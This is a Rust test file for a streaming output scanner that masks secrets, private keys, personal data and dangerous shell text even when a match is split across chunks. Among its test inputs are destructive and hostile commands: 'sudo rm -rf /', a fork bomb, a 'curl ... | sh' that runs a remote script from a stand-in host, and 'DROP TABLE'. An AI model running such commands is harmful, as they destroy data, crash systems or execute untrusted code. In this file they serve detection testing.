//! Streaming: a match split across chunks at any byte is found and masked exactly as in the whole
//! text, and the scanner holds back no more than it must.

mod common;

use common::{redacting_engine, secrets};
use meshgate_policy::{PolicyEngine, StreamScanner};

fn stream(scanner: &mut StreamScanner, chunks: &[&str]) -> String {
    let mut out = String::new();
    for chunk in chunks {
        out.push_str(&scanner.push(chunk));
    }
    out.push_str(&scanner.finish());
    out
}

/// Every split of `text` into two chunks at a char boundary streams to the batch result.
fn assert_every_split_matches_batch(engine: &PolicyEngine, text: &str) {
    let batch = engine.scan_output(text);
    let expected = batch.redacted.clone().unwrap_or_else(|| text.to_owned());
    for split in (0..=text.len()).filter(|i| text.is_char_boundary(*i)) {
        let mut scanner = engine.stream_scanner();
        let out = stream(&mut scanner, &[&text[..split], &text[split..]]);
        assert_eq!(out, expected, "split at {split} of {text:?}");
        assert_eq!(scanner.findings(), batch.findings.as_slice(), "findings, split at {split}");
    }
}

#[test]
fn secrets_split_at_every_byte_are_masked() {
    let engine = redacting_engine();
    for sample in secrets(20) {
        assert_every_split_matches_batch(&engine, &format!("a {} b", sample.text));
    }
}

#[test]
fn pii_keywords_and_shell_split_at_every_byte() {
    let engine = redacting_engine();
    for text in [
        "mail jane.doe@corp-mail.io.",
        "card 4111 1111 1111 1111.",
        "card 4111 1111 1111 1111.5 is a price",
        "ssn 123-45-6789 end",
        "please DROP   TABLE users",
        "sudo rm -rf / now",
        "rm -rf /tmp/x is fine",
        "curl -sSf https://x.test/i.sh | sh\n",
        ":(){ :|:& };: boom",
    ] {
        assert_every_split_matches_batch(&engine, text);
    }
}

#[test]
fn one_byte_chunks_with_multibyte_text() {
    let engine = redacting_engine();
    let key = &secrets(21)[1].text;
    let text = format!("日本語のテキスト {key} 🙂 and ümlauts jane@corp.example.de");
    let batch = engine.scan_output(&text);
    let chunks: Vec<String> = text.chars().map(String::from).collect();
    let refs: Vec<&str> = chunks.iter().map(String::as_str).collect();
    let mut scanner = engine.stream_scanner();
    assert_eq!(stream(&mut scanner, &refs), batch.redacted.unwrap());
    assert_eq!(scanner.findings(), batch.findings.as_slice());
}

#[test]
fn a_partial_prefix_is_held_and_released_when_it_turns_out_harmless() {
    let engine = redacting_engine();
    let mut scanner = engine.stream_scanner();
    assert_eq!(scanner.push("The answer is 42. Ask "), "The answer is 42. Ask ");
    assert_eq!(scanner.held(), 0, "text ending in a space holds nothing back");
    assert_eq!(scanner.push("sk"), "");
    assert_eq!(scanner.push("-pr"), "", "`sk-pr` may become a key");
    assert_eq!(scanner.push("oblems "), "sk-problems ", "a key body needs 32 mixed characters");
    assert_eq!(scanner.held(), 0);
    assert_eq!(scanner.push("ok"), "");
    assert_eq!(scanner.finish(), "ok");
    assert!(scanner.findings().is_empty());
}

#[test]
fn an_open_private_key_is_held_until_its_end_line() {
    let engine = redacting_engine();
    let sample = secrets(22).into_iter().find(|s| s.rule == meshgate_policy::Rule::PrivateKey).unwrap();
    let mut scanner = engine.stream_scanner();
    let mut out = scanner.push("key:\n");
    let lines: Vec<&str> = sample.text.split_inclusive('\n').collect();
    for line in &lines[..lines.len() - 1] {
        out.push_str(&scanner.push(line));
        assert!(!out.contains("PRIVATE KEY-----\n"), "nothing of the block is released before its end");
    }
    out.push_str(&scanner.push(lines[lines.len() - 1]));
    out.push_str(&scanner.push("\nbye"));
    out.push_str(&scanner.finish());
    assert_eq!(out, format!("key:\n{}…[REDACTED:private_key]\nbye", sample.public_prefix));
    assert_eq!(scanner.findings().len(), 1);
}

#[test]
fn findings_carry_stream_offsets() {
    let engine = redacting_engine();
    let key = &secrets(23)[0].text;
    let prefix = "x".repeat(100) + " ";
    let text = format!("{prefix}{key} done");
    let mut scanner = engine.stream_scanner();
    let chunks: Vec<&str> = text.as_bytes().chunks(3).map(|c| std::str::from_utf8(c).unwrap()).collect();
    stream(&mut scanner, &chunks);
    let f = &scanner.findings()[0];
    assert_eq!((f.start, f.end), (prefix.len(), prefix.len() + key.len()));
}

#[test]
fn pushing_after_finish_passes_through() {
    let engine = redacting_engine();
    let mut scanner = engine.stream_scanner();
    assert_eq!(scanner.finish(), "");
    assert_eq!(scanner.push("late"), "late");
    assert_eq!(scanner.finish(), "");
}

#[test]
fn disabled_output_scanning_is_a_pass_through() {
    let engine = PolicyEngine::from_json(&serde_json::json!({ "output": { "enabled": false } })).unwrap();
    let key = &secrets(24)[0].text;
    let mut scanner = engine.stream_scanner();
    assert_eq!(scanner.push(key), *key);
    assert_eq!(scanner.finish(), "");
    assert!(scanner.findings().is_empty());
    assert!(engine.scan_output(key).findings.is_empty());
}
